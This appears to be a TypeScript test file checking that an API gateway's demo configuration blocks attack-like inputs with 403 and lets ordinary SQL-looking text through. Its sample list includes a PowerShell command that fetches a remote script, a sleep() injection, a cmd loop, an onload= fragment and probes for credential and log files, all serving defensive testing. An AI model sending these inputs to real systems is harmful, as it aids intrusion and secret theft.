/**
 * Issue 12's real-client check, through the demo's own configuration
 * (demo/portcullis.yaml and demo/openapi.yaml) in front of the demo
 * upstream: the issue's samples get 403 from the inspected routes, and
 * ordinary text that looks like SQL gets through.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { startOrdersApi } from '../../demo/orders-api.js';
import { DEMO_SECRET_ENV } from '../../demo/tokens.js';
import { demoConfig } from '../../test-support/demo.js';
import { startTestGateway, type TestGateway } from '../../test-support/gateway.js';
import { send } from '../../test-support/http.js';

const q = encodeURIComponent;

describe('inspection in the demo', () => {
  let gw: TestGateway;
  let api: Awaited<ReturnType<typeof startOrdersApi>>;

  before(async () => {
    process.env[DEMO_SECRET_ENV] ??= 'a-demo-token-secret-for-the-inspection-test';
    api = await startOrdersApi(0);
    gw = await startTestGateway(demoConfig(api.port, { logLevel: 'error' }));
  });

  after(async () => {
    await gw.close();
    await api.close();
  });

  const attacks: [string, string, string?][] = [
    ['GET', '/public/catalog?sql_table=pg_catalog'],
    ['GET', `/public/catalog?foo=${q('for %variable in (set) do command')}`],
    ['GET', `/public/catalog?x=${q('Invoke-WebRequest -Uri http://example.com/a.ps1')}`],
    ['GET', `/public/catalog?x=${q('  onload= ')}`],
    ['POST', '/echo/x', '{"var":"sleep(20)"}'],
    ['GET', '/echo/.claude/settings.json'],
    ['GET', '/echo/wp-content/debug.log'],
  ];
  for (const [method, target, body] of attacks) {
    it(`${method} ${target}${body === undefined ? '' : ` ${body}`} → 403`, async () => {
      const reply = await send(gw.url, target, {
        method,
        ...(body === undefined ? {} : { body, headers: { 'content-type': 'application/json' } }),
      });
      assert.equal(reply.status, 403, reply.body);
      assert.equal(reply.json().code, 'input.rejected');
    });
  }

  const ordinary = [
    "O'Brien",
    'select a plan',
    // Prose about SQL injection (it describes a payload; it does not carry one: `' OR 1=1 --` is blocked).
    "SQL injection is an attack in which a user's input is pasted into a database query, so that a " +
      'value such as a quote followed by OR 1=1 changes what the query means. Parameterised queries ' +
      'prevent it: the database then never reads the value as part of the statement.',
  ];
  for (const text of ordinary) {
    it(`GET /public/catalog?q=${text.slice(0, 30)}… → 200`, async () => {
      const reply = await send(gw.url, `/public/catalog?q=${q(text)}`);
      assert.equal(reply.status, 200, reply.body);
    });
  }
});
